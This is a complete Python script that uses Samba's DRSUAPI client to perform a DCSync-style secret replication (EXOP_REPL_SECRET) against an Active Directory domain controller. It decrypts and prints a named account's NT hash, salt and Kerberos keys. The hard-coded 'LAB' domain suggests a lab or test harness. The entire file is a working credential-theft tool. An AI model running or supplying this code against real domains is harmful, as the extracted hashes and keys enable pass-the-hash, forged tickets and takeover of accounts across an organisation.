# Samba's own DRSUAPI client (python3-samba) replicates one account's secrets
# from a DC, as a joining DC or DCSync would (MS-DRSR 4.1.10, EXOP_REPL_SECRET).
# usage: samba_drs.py SMB_CONF SERVER_IP USER PASSWORD krb|ntlm ACCOUNT
# prints: NTHASH <hex> and KEY <etype> <hex> lines, or ERROR <WERR code>.
import sys, binascii
from samba import param, net
from samba.credentials import Credentials, DONT_USE_KERBEROS, MUST_USE_KERBEROS
from samba.dcerpc import drsuapi, misc, drsblobs
from samba.drs_utils import drsuapi_connect
from samba.ndr import ndr_unpack
from samba.samdb import SamDB

conf, server, user, password, mech, account = sys.argv[1:7]
lp = param.LoadParm()
lp.load(conf)


def credentials(kerberos):
    c = Credentials()
    c.guess(lp)
    c.set_username(user)
    c.set_password(password)
    c.set_domain('LAB')
    c.set_realm('LAB.LOCAL')
    c.set_kerberos_state(MUST_USE_KERBEROS if kerberos else DONT_USE_KERBEROS)
    return c


creds = credentials(mech == 'krb')
# The DC's name and NTDS Settings over LDAP (Samba's ldb; its LDAP client
# will not use Kerberos towards an IP address, so this part is NTLM), then
# DRSUAPI found through the endpoint mapper on port 135, with the mechanism
# asked for (Kerberos to E3514235-4B06-11D1-AB04-00C04FC2DCD2/... or host/).
samdb = SamDB(url='ldap://' + server, credentials=credentials(False), lp=lp)
dn = 'CN=%s,CN=Users,%s' % (account, samdb.get_default_basedn())
try:
    bind, handle, _ = drsuapi_connect(samdb.host_dns_name(), lp, creds, ip=server)
    req = drsuapi.DsGetNCChangesRequest8()
    req.destination_dsa_guid = misc.GUID(samdb.get_ntds_GUID())
    req.source_dsa_invocation_id = misc.GUID()
    nc = drsuapi.DsReplicaObjectIdentifier()
    nc.dn = dn
    req.naming_context = nc
    hwm = drsuapi.DsReplicaHighWaterMark()
    hwm.tmp_highest_usn = hwm.reserved_usn = hwm.highest_usn = 0
    req.highwatermark = hwm
    req.uptodateness_vector = None
    req.replica_flags = 0
    req.max_object_count = 1
    req.max_ndr_size = 402116
    req.extended_op = drsuapi.DRSUAPI_EXOP_REPL_SECRET
    attids = [drsuapi.DRSUAPI_ATTID_supplementalCredentials, drsuapi.DRSUAPI_ATTID_unicodePwd]
    pas = drsuapi.DsPartialAttributeSet()
    pas.version = 1
    pas.attids = attids
    pas.num_attids = len(attids)
    req.partial_attribute_set = pas
    req.partial_attribute_set_ex = None
    req.mapping_ctr.num_mappings = 0
    req.mapping_ctr.mappings = None
    level, ctr = bind.DsGetNCChanges(handle, 8, req)
except RuntimeError as e:
    # WERRORError: (code, message)
    print('ERROR', e.args[0], e.args[1] if len(e.args) > 1 else '')
    sys.exit(0)

print('LEVEL', level, 'EXOP', ctr.extended_ret)
net_ctx = net.Net(creds)
rid = ctr.first_object.object.identifier.sid.split()[1]
for attr in ctr.first_object.object.attribute_ctr.attributes:
    if attr.value_ctr.num_values == 0:
        continue
    net_ctx.replicate_decrypt(bind, attr, rid)
    v = attr.value_ctr.values[0].blob
    if attr.attid == drsuapi.DRSUAPI_ATTID_unicodePwd:
        print('NTHASH', v.hex())
    elif attr.attid == drsuapi.DRSUAPI_ATTID_supplementalCredentials:
        spl = ndr_unpack(drsblobs.supplementalCredentialsBlob, v)
        for pkg in spl.sub.packages:
            if pkg.name == 'Primary:Kerberos-Newer-Keys':
                k = ndr_unpack(drsblobs.package_PrimaryKerberosBlob, binascii.a2b_hex(pkg.data))
                print('SALT', k.ctr.salt.string)
                for key in k.ctr.keys:
                    print('KEY', key.keytype, key.value.hex())
